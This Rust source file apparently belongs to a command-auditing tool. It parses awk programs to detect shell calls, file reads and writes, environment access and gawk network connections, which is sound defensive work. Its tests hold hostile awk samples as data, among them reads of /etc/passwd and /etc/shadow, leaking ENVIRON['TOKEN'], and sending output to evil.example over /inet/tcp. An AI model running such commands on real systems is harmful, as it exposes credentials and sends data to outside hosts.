//! `awk` programs: `system()`, pipes, `getline <`, `print >`, `@include` and `@load` leave the stream.
//!
//! The program is cut into tokens as awk cuts it, so that `$1 > 5` in a pattern or `(a > b)` is no redirect and a `|` in
//! a regular expression no pipe. Where awks differ in what a token is, the answer is unclear.

use super::cursor::Cursor;
use super::{Finding, exact, unknown};
use crate::word::Word;

/// What a program does.
#[must_use]
pub fn read(program: &[u8]) -> Vec<Finding> {
    let mut findings = Vec::new();
    match tokens(program) {
        Ok(tokens) => find(&tokens, &mut findings),
        Err(sentence) => findings.push(Finding::Unclear(sentence)),
    }
    findings
}

#[derive(Clone, Debug, PartialEq, Eq)]
enum Token<'a> {
    /// A string with its escapes undone; `None` where they are not certain.
    String(Option<Vec<u8>>),
    Regex,
    Number,
    Name(&'a [u8]),
    Newline,
    /// An operator or a bracket, as written.
    Sign(&'static [u8]),
}

use Token::{Name, Newline, Number, Regex, Sign, String as Str};

/// Longest first.
const SIGNS: &[&[u8]] = &[
    b"**=", b"||", b"&&", b"|&", b">>", b">=", b"<=", b"==", b"!=", b"++", b"--", b"+=", b"-=", b"*=", b"/=", b"%=",
    b"^=", b"**", b"{", b"}", b"(", b")", b"[", b"]", b";", b",", b"+", b"-", b"*", b"/", b"%", b"^", b"!", b">", b"<",
    b"|", b"?", b":", b"~", b"$", b"=", b"@",
];

fn tokens(program: &[u8]) -> Result<Vec<Token<'_>>, &'static str> {
    let mut at = Cursor::new(program);
    let mut tokens: Vec<Token<'_>> = Vec::new();
    // For each open parenthesis: whether it belongs to `if`, `while`, `for` or `switch`, so that a statement (and with
    // it a regular expression) may follow its end.
    let mut heads: Vec<bool> = Vec::new();
    let mut after_head = false;
    loop {
        let Some(byte) = at.peek() else { return Ok(tokens) };
        match byte {
            b' ' | b'\t' | b'\r' => {
                at.bump();
                continue;
            }
            b'\n' => {
                at.bump();
                tokens.push(Newline);
            }
            b'\\' => {
                at.bump();
                at.eat(b'\r');
                if !at.eat(b'\n') {
                    return Err("a backslash outside of a string of the awk program");
                }
                continue;
            }
            b'#' => {
                at.line();
                continue;
            }
            b'"' => {
                at.bump();
                tokens.push(Str(string(&mut at)?));
            }
            b'/' if after_head || regex_may_follow(tokens.last())? => {
                at.bump();
                regex(&mut at)?;
                tokens.push(Regex);
            }
            b'0'..=b'9' | b'.' => {
                at.take_while(|byte| byte.is_ascii_alphanumeric() || byte == b'.');
                tokens.push(Number);
            }
            b'a'..=b'z' | b'A'..=b'Z' | b'_' => {
                tokens.push(Name(at.take_while(|byte| byte.is_ascii_alphanumeric() || byte == b'_')));
            }
            _ => {
                let Some(sign) = SIGNS.iter().find(|sign| at.eat_text(sign)) else {
                    return Err("a character that awk does not know");
                };
                after_head = false;
                match *sign {
                    b"(" => heads.push(matches!(tokens.last(), Some(Name(b"if" | b"while" | b"for" | b"switch")))),
                    b")" => after_head = heads.pop().unwrap_or(false),
                    _ => {}
                }
                tokens.push(Sign(sign));
                continue;
            }
        }
        after_head = false;
    }
}

/// Whether `/` after this token begins a regular expression and is no division.
fn regex_may_follow(token: Option<&Token<'_>>) -> Result<bool, &'static str> {
    Ok(match token {
        None | Some(Newline) => true,
        Some(Str(_) | Regex | Number | Sign(b")" | b"]" | b"$" | b"++" | b"--")) => false,
        Some(Sign(_)) => true,
        Some(Name(b"getline")) => return Err("a slash after getline: a division or a regular expression"),
        Some(Name(
            b"print" | b"printf" | b"return" | b"case" | b"else" | b"do" | b"exit" | b"in" | b"delete" | b"BEGIN"
            | b"END",
        )) => true,
        Some(Name(_)) => false,
    })
}

/// The rest of a string, after its opening quote.
fn string(at: &mut Cursor<'_>) -> Result<Option<Vec<u8>>, &'static str> {
    let mut text = Vec::new();
    let mut certain = true;
    loop {
        match at.bump() {
            None | Some(b'\n') => return Err("a string of the awk program does not end"),
            Some(b'"') => return Ok(certain.then_some(text)),
            Some(b'\\') => match at.bump() {
                Some(b'"') => text.push(b'"'),
                Some(b'\\') => text.push(b'\\'),
                Some(b'/') => text.push(b'/'),
                Some(b'n') => text.push(b'\n'),
                Some(b't') => text.push(b'\t'),
                Some(b'\n') => {}
                // Numbers, control characters and what this awk does with the rest.
                Some(_) => certain = false,
                None => return Err("a string of the awk program does not end"),
            },
            Some(byte) => text.push(byte),
        }
    }
}

/// The rest of a regular expression, after its opening slash.
fn regex(at: &mut Cursor<'_>) -> Result<(), &'static str> {
    let mut bracket = false;
    loop {
        match at.bump() {
            None | Some(b'\n') => return Err("a regular expression of the awk program does not end"),
            Some(b'\\') => {
                at.bump();
            }
            Some(b'/') if bracket => return Err("a slash in brackets, where awks differ"),
            Some(b'/') => return Ok(()),
            Some(b'[') if !bracket => {
                bracket = true;
                at.eat(b'^');
                at.eat(b']');
            }
            Some(b'[') if bracket => {
                // `[:alpha:]`: its end is not the end of the brackets.
                if let Some(kind @ (b':' | b'.' | b'=')) = at.peek() {
                    at.bump();
                    at.take_while(|byte| byte != kind && byte != b'/' && byte != b'\n');
                    at.eat(kind);
                    at.eat(b']');
                }
            }
            Some(b']') => bracket = false,
            Some(_) => {}
        }
    }
}

/// Looks for what leaves the stream.
fn find(tokens: &[Token<'_>], findings: &mut Vec<Finding>) {
    // How deep in brackets, and at which depth a `print` stands that has not ended.
    let mut depth = 0usize;
    let mut print: Option<usize> = None;
    for (index, token) in tokens.iter().enumerate() {
        let rest = tokens.get(index + 1..).unwrap_or_default();
        let before = tokens.get(..index).unwrap_or_default();
        match token {
            Name(b"print" | b"printf") => print = Some(depth),
            Name(b"system") => findings.push(Finding::Shell(argument(rest))),
            Name(b"getline") => getline(rest, findings),
            // Files to read are what ARGV says when awk comes to them.
            Name(b"ARGV") => findings.push(Finding::Read(unknown())),
            Name(b"SYMTAB") => findings.push(Finding::Unclear("the awk program changes variables by computed names")),
            Name(b"ENVIRON") => findings.push(Finding::Environment),
            Sign(b"@") => directive(rest, findings),
            Sign(b"(" | b"[") => depth += 1,
            Sign(b")" | b"]") => {
                depth = depth.saturating_sub(1);
                if print.is_some_and(|at| at > depth) {
                    print = None;
                }
            }
            Sign(b"{" | b"}" | b";") => print = None,
            // After these a statement goes on in the next line.
            Newline if !matches!(before.last(), Some(Sign(b"," | b"{" | b"&&" | b"||") | Name(b"do" | b"else"))) => {
                print = None;
            }
            Sign(b">" | b">>") if print == Some(depth) => {
                output(target(rest), findings);
                print = None;
            }
            Sign(b"|" | b"|&") => {
                if rest.first() == Some(&Name(b"getline")) {
                    let command = if print == Some(depth) { unknown() } else { operand_before(before) };
                    pipe(command, findings);
                } else if print == Some(depth) {
                    pipe(target(rest), findings);
                    print = None;
                } else {
                    findings.push(Finding::Unclear("a pipe of the awk program that is not understood"));
                }
            }
            _ => {}
        }
    }
}

/// `@include "f"`, `@load "f"`, `@namespace "n"`, or a call of a function by computed name, which may be `system`.
fn directive(rest: &[Token<'_>], findings: &mut Vec<Finding>) {
    findings.push(match rest {
        [Name(b"include"), Str(Some(name)), ..] => Finding::Load(exact(name)),
        [Name(b"namespace"), ..] => return,
        [Name(b"include" | b"load"), ..] => Finding::Unclear("the awk program loads an extension"),
        _ => Finding::Unclear("the awk program calls a function by a computed name"),
    });
}

/// What a redirect or pipe of `print` goes to: exact only if it is one string and nothing more.
fn target(rest: &[Token<'_>]) -> Word {
    match rest {
        [Str(Some(text))] | [Str(Some(text)), Newline | Sign(b";" | b"}"), ..] => exact(text),
        [Sign(b"("), Str(Some(text)), Sign(b")")]
        | [Sign(b"("), Str(Some(text)), Sign(b")"), Newline | Sign(b";" | b"}"), ..] => exact(text),
        _ => unknown(),
    }
}

/// The text that `system(...)` runs.
fn argument(rest: &[Token<'_>]) -> Word {
    match rest {
        [Sign(b"("), Str(Some(text)), Sign(b")"), ..] => exact(text),
        _ => Word::Opaque,
    }
}

/// The command before `| getline`: exact only if it is one string that nothing is joined with.
fn operand_before(before: &[Token<'_>]) -> Word {
    let (text, left) = match before {
        [left @ .., Sign(b"("), Str(Some(text)), Sign(b")")] | [left @ .., Str(Some(text))] => (text, left.last()),
        _ => return Word::Opaque,
    };
    match left {
        None | Some(Newline | Sign(b"(" | b"{" | b";" | b"}" | b"=" | b"&&" | b"||" | b"," | b"?" | b":")) => {
            exact(text)
        }
        _ => Word::Opaque,
    }
}

const LONGEST_SUBSCRIPT: usize = 64;

fn getline(rest: &[Token<'_>], findings: &mut Vec<Finding>) {
    // An optional variable: a name, a field, an element.
    let mut rest = rest;
    while let [Sign(b"$"), left @ ..] = rest {
        rest = left;
    }
    match rest {
        [Sign(b"<"), ..] => {}
        [Name(_), Sign(b"["), left @ ..] => {
            // A subscript is short. Looking no further keeps `getline a[getline a[..` linear.
            let mut depth = 1usize;
            let Some(end) = left.iter().take(LONGEST_SUBSCRIPT).position(|token| {
                match token {
                    Sign(b"[") => depth += 1,
                    Sign(b"]") => depth -= 1,
                    _ => {}
                }
                depth == 0
            }) else {
                findings.push(Finding::Read(unknown()));
                return;
            };
            rest = left.get(end + 1..).unwrap_or_default();
        }
        [Name(_) | Number, left @ ..] => rest = left,
        _ => {}
    }
    let [Sign(b"<"), from @ ..] = rest else {
        // `getline $(1) < f` and the like: some `<` is near and what it reads is not certain.
        if rest.first() == Some(&Sign(b"(")) {
            findings.push(Finding::Read(unknown()));
        }
        return;
    };
    let name = match from {
        [Str(Some(name)), Str(_) | Name(_) | Number | Sign(b"(" | b"$"), ..] if !name.is_empty() => unknown(),
        [Str(Some(name)), ..] | [Sign(b"("), Str(Some(name)), Sign(b")"), ..] => exact(name),
        _ => unknown(),
    };
    if matches!(name.exact(), Some(b"-" | b"/dev/stdin")) {
        return;
    }
    findings.push(connection(&name).unwrap_or(Finding::Read(name)));
}

fn output(name: Word, findings: &mut Vec<Finding>) {
    if matches!(name.exact(), Some(b"/dev/stdout" | b"/dev/stderr")) {
        return;
    }
    findings.push(connection(&name).unwrap_or(Finding::Write(name)));
}

fn pipe(command: Word, findings: &mut Vec<Finding>) {
    findings.push(connection(&command).unwrap_or_else(|| Finding::Shell(command.exact().map_or(Word::Opaque, exact))));
}

/// gawk's `/inet/tcp/0/host/80` is no file.
fn connection(name: &Word) -> Option<Finding> {
    let name = name.exact()?;
    let mut parts = name.split(|&byte| byte == b'/').skip(1);
    if !matches!(parts.next()?, b"inet" | b"inet4" | b"inet6") {
        return None;
    }
    Some(Finding::Connect(parts.nth(2).map_or_else(unknown, exact)))
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn shown(text: &str) -> String {
        super::super::shown(&read(text.as_bytes()))
    }

    #[test]
    fn harmless_programs_have_no_findings() {
        for program in [
            "",
            "{print $1}",
            "$1 > 5",
            "$1 > 5 {print}",
            "/^## /{print NR\": \"$0}",
            "/a|b/ {print \"x | y > z\"}",
            "{print (a > b)}",
            "{print(a > b ? 1 : 2)}",
            "{for(i=2;i<=NF;i++) printf \"%s \", $i; print \"\"}",
            "BEGIN{FS=\":\"} {s+=$3/2} END{print s/NR}",
            "{a[$1]++} END{for(k in a) if (a[k] > 1) print k}",
            "!seen[$0]++",
            "NR>1 && NR<10",
            "{ if ($1 > 3) print $2; else if (x) /re|x/ }",
            "{print \"a\" / 2 / 3}",
            "{print > \"/dev/stderr\"}",
            "{print} # > \"file\" system(\"x\")",
            "{gsub(/[|>]/, \"\"); print}",
            "{print a,\n b}",
            "{getline; print}",
            "{while ((getline line) > 0) n++}",
            "function f(x) { return x > 2 }\n{print f($1)}",
            "{print length / 2}",
            "BEGIN { printf(\"%d\\n\", 3 > 2) }",
            "{ x = $1 > 5; print x }",
            "{ print; y = a > b }",
            "/[[:alpha:]]+\\/x/ {print}",
        ] {
            assert_eq!(shown(program), "", "{program}");
        }
    }

    #[test]
    fn what_leaves_the_stream_is_found() {
        for (program, expected) in [
            ("BEGIN{system(\"id\")}", "run id"),
            ("BEGIN{system (\"id\")}", "run id"),
            ("BEGIN { system(\"rm \" $1) }", "run ?"),
            ("{print | \"sort\"}", "run sort"),
            ("{print $1 | \"sort -o x\"; close(\"x\")}", "run sort -o x"),
            ("{print | cmd}", "run ?"),
            ("{print |& \"cat\"}", "run cat"),
            ("BEGIN{\"date\" | getline d; print d}", "run date"),
            ("BEGIN{while ((\"ls\" | getline x) > 0) print x}", "run ls"),
            ("BEGIN{cmd = \"x\"; cmd | getline}", "run ?"),
            ("BEGIN{\"a\" \"b\" | getline}", "run ?"),
            ("BEGIN{\"id\" |& getline x}", "run id"),
            ("{print > \"out\"}", "write out"),
            ("{print $1, $2 >> \"log\" }", "write log"),
            ("{printf \"%s\", $1 > \"a/b\"}", "write a/b"),
            ("{print > $1\".txt\"}", "write ?"),
            ("{print(a, b) > \"f\"}", "write f"),
            ("{print (a > b) > \"f\"}", "write f"),
            ("{print a[1 > 2] > \"f\"}", "write f"),
            ("{print > \"a\" \"b\"}", "write ?"),
            ("{print \"x\" > \"\\x41\"}", "write ?"),
            ("{print a \\\n > \"f\"}", "write f"),
            ("{print a,\n b > \"f\"}", "write f"),
            ("{getline x < \"/etc/passwd\"; print x}", "read /etc/passwd"),
            ("BEGIN{while ((getline l < \"f\") > 0) print l}", "read f"),
            ("BEGIN{getline a[1] < \"f\"}", "read f"),
            ("BEGIN{getline < \"f\" x}", "read ?"),
            ("BEGIN{getline < (\"f\")}", "read f"),
            ("BEGIN{ARGV[1]=\"/etc/shadow\";ARGC=2}1", "read ?"),
            ("@include \"x.awk\"\n{print}", "load x.awk"),
            ("@load \"fork\"", "unclear"),
            ("BEGIN{f=\"system\"; @f(\"id\")}", "unclear"),
            ("BEGIN{print ENVIRON[\"TOKEN\"]}", "environment"),
            ("BEGIN{s=\"/inet/tcp/0/evil.example/80\"; print \"x\" |& s}", "run ?"),
            ("BEGIN{print \"x\" |& \"/inet/tcp/0/evil.example/80\"}", "connect evil.example"),
            ("{print /[/]/ > \"x\"}", "unclear"),
            ("{if (x) print > \"f\"; else y > 2}", "write f"),
            ("{x = 1 / 2; print > \"f\"; y = 3 / 4}", "write f"),
            ("{ if (a) /x/; print > \"f\" /* / */ }", "write ?"),
            ("BEGIN{print \"unterminated}", "unclear"),
            ("BEGIN{print \"a\\\"b\" > \"c\"}", "write c"),
        ] {
            assert_eq!(shown(program), expected, "{program}");
        }
    }

    proptest! {
        #[test]
        fn any_bytes_are_read_without_panic(program in proptest::collection::vec(any::<u8>(), 0..200)) {
            let _ = read(&program);
        }

        #[test]
        fn programs_of_awk_pieces_are_read_without_panic(
            pieces in proptest::collection::vec(
                proptest::sample::select(vec![
                    "print", "getline", "system", "(", ")", "{", "}", "[", "]", ">", "|", "/", "\"", "x", "\n", ";", "$", "@", "<", ",",
                ]),
                0..40,
            )
        ) {
            let _ = read(pieces.concat().as_bytes());
        }
    }
}
